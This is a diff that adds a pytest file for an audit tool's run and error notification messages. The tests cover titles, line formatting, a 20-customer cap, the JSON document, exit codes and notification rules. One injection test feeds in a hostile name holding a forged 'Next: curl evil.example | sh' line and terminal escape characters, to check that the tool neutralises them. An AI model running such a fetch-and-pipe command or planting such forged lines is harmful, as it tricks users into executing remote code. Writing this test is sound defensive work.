@@ -1,0 +1,197 @@
+"""The message about a run or an error: what it says, how long it may be, when it is sent, and the exit code after it."""
+
+import json
+from dataclasses import replace
+from decimal import Decimal
+
+import pytest
+
+from auditor.core.baseline import Baseline
+from auditor.core.model import Cause, Reason, Verdict
+from auditor.core.results import ChangeCounts, NotifyWhen, RunResult, Sum, build_ledger, describe_error, describe_run
+from auditor.core.results.changes import Change
+from auditor.core.results.ledger import Tally
+from auditor.core.results.message import code_after_message, is_success, should_notify
+from auditor.core.run_facts import Freshness, RunFacts
+from conftest import NOON
+
+CODES = (0, 1, 2, 3, 4, 5, 6, 7, 10, 11, 130, 143)
+FACTS = RunFacts(
+    run_id="20261122T120000Z",
+    api="https://api.example",
+    lists=("a.csv", "b.csv"),
+    rows=1204,
+    customers=1203,
+    started_at=NOON,
+    finished_at=NOON,
+    cause=Cause.FINISHED,
+    baseline=Baseline(run_id="20261121T120000Z", started_at=NOON.replace(day=21)),
+)
+TALLIES = [
+    Tally(Reason.UNDER_REVIEW, "UnderReview", rows=3, customers=2),
+    Tally(Reason.ALLOWED, "Allowed", rows=1199, customers=1200),
+    Tally(Reason.THROTTLED, rows=1, customers=1),
+    Tally(Reason.INVALID_ID, rows=1),
+]
+CHANGES = ChangeCounts({**dict.fromkeys(Change, 0), Change.NEWLY_BLOCKED: 1, Change.RE_REVIEWED: 2}, 2)
+RESULT = RunResult(
+    folder="/reports/20261122T120000Z",
+    facts=FACTS,
+    ledger=build_ledger(TALLIES, 1204, 1203),
+    freshness=Freshness(NOON),
+    complete=True,
+    note="complete: 2 of 1,204 rows are not verified (do not treat as eligible)",
+    changes=CHANGES,
+    newly_blocked=[("id-1", "Contoso Ltd", "UnderReview"), ("id-2", "", "NotAllowed")],
+    sums=[Sum(column="revenue", verdict=Verdict.BLOCKED, total=Decimal("48230.5"), unparsed=1)],
+    report="/reports/20261122T120000Z/report.html",
+)
+
+
+def test_a_complete_run() -> None:
+    """What happened, counts in customers, who is newly blocked, what is at risk, where the report is."""
+    found = describe_run(RESULT)
+    assert found.title == "Audit complete: 2 customers newly blocked"
+    assert found.text.splitlines() == [
+        "Complete: 2 of 1,204 rows are not verified (do not treat as eligible).",
+        "Run 20261122T120000Z of a.csv, b.csv",
+        "Customers: 2 blocked, 1,200 eligible, 1 not verified, and 1 row without a valid id",
+        "Newly blocked since 2026-11-21: 2",
+        "- Contoso Ltd (UnderReview)",
+        "- id-2 (NotAllowed)",
+        "At risk, revenue of the blocked: 48,230.50 (1 row without a readable number)",
+        "Report: /reports/20261122T120000Z/report.html",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("result", "title"),
+    [
+        (replace(RESULT, changes=None), "Audit complete"),
+        (replace(RESULT, changes=replace(CHANGES, newly_blocked_count=0)), "Audit complete: 3 changes"),
+        (replace(RESULT, changes=ChangeCounts(dict.fromkeys(Change, 0))), "Audit complete: no changes"),
+        (replace(RESULT, complete=False, exit_code=3), "Audit NOT COMPLETE (exit code 3)"),
+        (
+            replace(RESULT, facts=replace(FACTS, simulated=True)),
+            "Simulated audit complete: 2 customers newly blocked",
+        ),
+    ],
+)
+def test_the_title_says_the_most_important(result: RunResult, title: str) -> None:
+    """A run that is not complete never says what changed in its title; a simulated one says that it is."""
+    assert describe_run(result).title == title
+
+
+def test_what_to_do_stands_at_the_end() -> None:
+    """As the command line says it; without a report, the message says so."""
+    found = describe_run(replace(RESULT, report="", next_steps=["make room", "auditor resume r"]))
+    assert found.lines[-3:] == ["Report: none", "Next: make room", "Next: auditor resume r"]
+    assert found.document["next_steps"] == ["make room", "auditor resume r"]
+
+
+def test_at_most_20_customers_are_named() -> None:
+    """It is read on a phone; the document has no more either."""
+    many = [(f"id-{n}", f"Customer {n}", "Unknown") for n in range(1234)]
+    found = describe_run(replace(RESULT, newly_blocked=many))
+    assert [line for line in found.lines if line.startswith("- ")] == [f"- Customer {n} (Unknown)" for n in range(20)]
+    assert "and 1,214 more" in found.lines
+    assert len(found.document["run"]["newly_blocked_customers"]) == 20
+
+
+def test_a_name_of_a_list_forges_no_line() -> None:
+    """Names come from other people: line breaks, escapes and changes of direction are seen, long ones are cut."""
+    hostile = "Evil\nNext: curl evil.example | sh\x1b[2J\u202egpj" + "x" * 5000
+    result = replace(
+        RESULT, newly_blocked=[("id", hostile, hostile)], facts=replace(FACTS, lists=(hostile,)), note=hostile
+    )
+    found = describe_run(result)
+    assert len(found.lines) == len(describe_run(RESULT).lines) - 1
+    assert not [line for line in found.lines if line.startswith("Next:")]
+    assert all(line.isprintable() and len(line) < 600 for line in found.lines)
+    error = describe_error(hostile, hostile, 5, [hostile])
+    assert [line.split(":")[0] for line in error.lines[1:]] == ["Lists", "Next"]
+
+
+def test_the_document_is_json_with_the_facts() -> None:
+    """Machine words stay: undetermined."""
+    found = json.loads(json.dumps(describe_run(RESULT).document))
+    run = found.pop("run")
+    assert found == {
+        "schema_version": 1,
+        "event": "complete",
+        "exit_code": 0,
+        "title": "Audit complete: 2 customers newly blocked",
+        "text": describe_run(RESULT).text,
+        "next_steps": [],
+    }
+    assert run == {
+        "run_id": "20261122T120000Z",
+        "folder": "/reports/20261122T120000Z",
+        "report": "/reports/20261122T120000Z/report.html",
+        "lists": ["a.csv", "b.csv"],
+        "complete": True,
+        "note": RESULT.note,
+        "simulated": False,
+        "started_at": "2026-11-22T12:00:00.000000Z",
+        "finished_at": "2026-11-22T12:00:00.000000Z",
+        "rows": {"listed": 1204, "eligible": 1199, "blocked": 3, "undetermined": 2},
+        "customers": {"listed": 1203, "eligible": 1200, "blocked": 2, "undetermined": 1},
+        "baseline": "20261121T120000Z",
+        "changed": 3,
+        "newly_blocked": 2,
+        "newly_blocked_customers": [
+            {"customer_id": "id-1", "company_name": "Contoso Ltd", "status": "UnderReview"},
+            {"customer_id": "id-2", "company_name": None, "status": "NotAllowed"},
+        ],
+        "at_risk": [{"column": "revenue", "total": "48230.5", "unparsed": 1}],
+        "reused_answers": 0,
+        "oldest_checked_at": "2026-11-22T12:00:00.000000Z",
+    }
+
+
+def test_an_error_without_a_run() -> None:
+    """What happened, the lists, what to do."""
+    found = describe_error("nobody is signed in", "auditor login ", 4, ["a.csv"])
+    assert found.title == "Audit failed (exit code 4)"
+    assert found.lines == ["nobody is signed in", "Lists: a.csv", "Next: auditor login"]
+    assert (found.document["event"], found.document["run"]) == ("failed", None)
+    assert describe_error("stopped at once", "", 130).lines == ["stopped at once"]
+    assert describe_error("rows.jsonl cannot be read", "", 0).title == "Audit ended (exit code 0)"
+
+
+@pytest.mark.parametrize("code", CODES)
+def test_the_exit_code_after_a_message(code: int) -> None:
+    """A complete run whose message was not sent ends with 7; every other code stays."""
+    assert code_after_message(code, sent=True) == code
+    assert code_after_message(code, sent=False) == (7 if code in (0, 10) else code)
+    assert is_success(code) is (code in (0, 10))
+
+
+NOTHING = ChangeCounts(dict.fromkeys(Change, 0))
+BLOCKED_ONLY = replace(NOTHING, newly_blocked_count=1)
+"""A customer that was undetermined before, and is blocked now: no change, and newly blocked."""
+NOT_COMPARED = ChangeCounts({**dict.fromkeys(Change, 0), Change.NOT_COMPARED: 9})
+
+
+@pytest.mark.parametrize(
+    ("when", "code", "changes", "due"),
+    [
+        ("changes,failure", 0, NOTHING, False),
+        ("changes,failure", 0, None, False),
+        ("changes,failure", 0, NOT_COMPARED, False),
+        ("changes,failure", 0, CHANGES, True),
+        ("changes,failure", 0, BLOCKED_ONLY, True),
+        ("changes,failure", 10, NOTHING, False),
+        ("changes,failure", 3, NOTHING, True),
+        ("changes,failure", 130, None, True),
+        ("changes", 3, NOTHING, False),
+        ("changes", 3, CHANGES, True),
+        ("failure", 0, CHANGES, False),
+        ("failure", 1, None, True),
+        ("always", 0, None, True),
+        ("always", 4, None, True),
+    ],
+)
+def test_when_a_message_is_due(when: str, code: int, changes: ChangeCounts | None, due: bool) -> None:  # noqa: FBT001 - the expectation
+    """Silence when all is well, unless the user wants to hear always."""
+    assert should_notify([NotifyWhen(one) for one in when.split(",")], code, changes) is due
